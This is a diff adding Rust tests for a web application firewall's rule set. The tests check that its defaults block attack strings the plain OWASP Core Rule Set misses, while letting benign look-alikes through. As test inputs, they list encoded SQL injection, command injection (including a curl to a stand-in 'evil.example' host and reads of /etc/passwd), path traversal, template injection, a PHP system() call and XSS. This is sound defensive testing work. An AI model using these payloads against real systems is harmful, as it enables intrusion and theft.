@@ -296,6 +296,96 @@ fn attacks_that_crs_does_not_look_for_are_refused() {
     }
 }
 
+/// SQL, commands, files and objects in forms that the first level of CRS does not look for, and text that resembles them.
+#[test]
+fn statements_and_commands_are_refused() {
+    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
+    let mut missed = 0;
+    for attack in [
+        "1%20where%204844%20%20=%20%204844",
+        "'/**/And/**/7485=(seLEct/**/couNt(*)/**/frOm/**/ALL_USERS/**/T1,ALL_USERS/**/T2)--",
+        "%20ORDER%20BY%2031337%23",
+        "1;call%20regexp_substring(repeat(right(char(3702),0),500000000),null)",
+        "iif(7889=5114,1,1/0)",
+        "'%20or%20json_length('%7B%7D')%20%3C=%208896",
+        "%26%20sleep%200%20%26%26%20str=$(echo%20X)%20%26%26%20%5B%202%20-eq%20$%7Bstr1%7D%20%5D",
+        "%7C%7Cecho$IFSZIARXP$((32%2B15))",
+        "%3B%20curl%20http://evil.example/x",
+        "%26%26%20dir",
+        "%7C%20ping%20-n%2021%20127.0.0.1",
+        "perl%20-e%20'print%201'",
+        "/???/??t%20/etc",
+        "page//var/log/ftplog",
+        "%5Clog%5Chttpd%5Cerror_log",
+        "request.__class__",
+    ] {
+        let uri = format!("/t?q={attack}");
+        assert!(is_blocked(&ours, &uri, &("GET", &[], b"")), "{attack}");
+        missed += u32::from(!is_blocked(&plain, &uri, &("GET", &[], b"")));
+    }
+    assert!(missed > 3, "CRS by itself misses {missed}");
+    for ordinary in [
+        "where%20is%20room%204844%20or%20204",
+        "sort%20by%20price,%20group%20by%20size",
+        "Select%20one%20(or%20two)%20from%20the%20list",
+        "cats%20%26%20dogs;%20find%20them%20here",
+        "R%26D;%20type%20B",
+        "Q%26A;%20ping%20me",
+        "run%20`ls`%20in%20a%20shell",
+        "wait%20and%20sleep%20well",
+        "https://example.com/blog/etc/2026",
+        "curl",
+        "a%20class%20of%20__2026__",
+        "midp-2.0;%20u;%20adr%204.2.2;%20id;%20r1001",
+        "1-691-208--2089-2089-2089-983",
+    ] {
+        let uri = format!("/t?q={ordinary}");
+        assert!(!is_blocked(&ours, &uri, &("GET", &[], b"")), "{ordinary}");
+    }
+    assert!(!is_blocked(&ours, "/ad/www.example.com", &("GET", &[], b"")));
+    assert!(is_blocked(&plain, "/ad/www.example.com", &("GET", &[], b"")));
+}
+
+/// Header fields of applications, and segments of a path.
+#[test]
+fn attacks_in_other_places_are_refused() {
+    let (ours, plain) = (program(Defaults::Glacis, ""), program(Defaults::Crs, ""));
+    let mut missed = 0;
+    for attack in [
+        "1' or 1=1 -- -",
+        "1 union all select 1,2,3",
+        "<svg onload=alert(1)>",
+        "; cat /etc/passwd",
+        "{{7*7}}",
+        "<?php system('id'); ?>",
+    ] {
+        let header = [("X-Filter", attack)];
+        assert!(is_blocked(&ours, "/", &("GET", &header, b"")), "{attack}");
+        missed += u32::from(!is_blocked(&plain, "/", &("GET", &header, b"")));
+        let path = attack.replace(' ', "%20").replace('?', "%3F").replace('{', "%7B");
+        let uri = format!("/items/{path}");
+        assert!(is_blocked(&ours, &uri, &("GET", &[], b"")), "{uri}");
+        missed += u32::from(!is_blocked(&plain, &uri, &("GET", &[], b"")));
+    }
+    assert!(missed > 5, "CRS by itself misses {missed}");
+    for (name, value) in [
+        ("X-Request-Id", "1' or 1=1"),
+        ("X-Csrf-Token", "Zm9v--bar+baz/qux=="),
+        ("X-Client-Data", "CIa2yQEIo7bJAQipncoBCKijygEIlKHLAQ=="),
+        ("X-Requested-With", "XMLHttpRequest"),
+        ("X-Newrelic-Id", "VQYGVF5SCBADUVBRBgAFVg=="),
+        ("X-Amz-Date", "20260102T030405Z"),
+        ("X-Client-Version", "shop/4.2 (iOS 18; and; 2 more)"),
+    ] {
+        assert!(!is_blocked(&ours, "/", &("GET", &[(name, value)], b"")), "{name}: {value}");
+    }
+    for uri in
+        ["/select/from/union", "/api/users/1;v=2", "/docs/where-2-eat", "/w/index.php/A_or_B"]
+    {
+        assert!(!is_blocked(&ours, uri, &("GET", &[], b"")), "{uri}");
+    }
+}
+
 /// `1' UNION SELECT login, password FROM users-- -`, encoded.
 #[test]
 fn attacks_in_nested_encodings_are_refused() {
@@ -318,7 +408,7 @@ fn attacks_in_nested_encodings_are_refused() {
 fn the_reference_names_every_rule() {
     let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
     let read = |path: &str| fs::read_to_string(root.join(path)).unwrap();
-    let rules = read("base/defaults.conf");
+    let rules = read("base/defaults.conf") + &read("base/attacks.conf");
     let weak = read("base/weak.conf");
     let reference = fs::read_to_string(root.join("../docs/reference/defaults.md")).unwrap();
     let ids = rules.split("id:").skip(1).map(|rest| &rest[..6]);
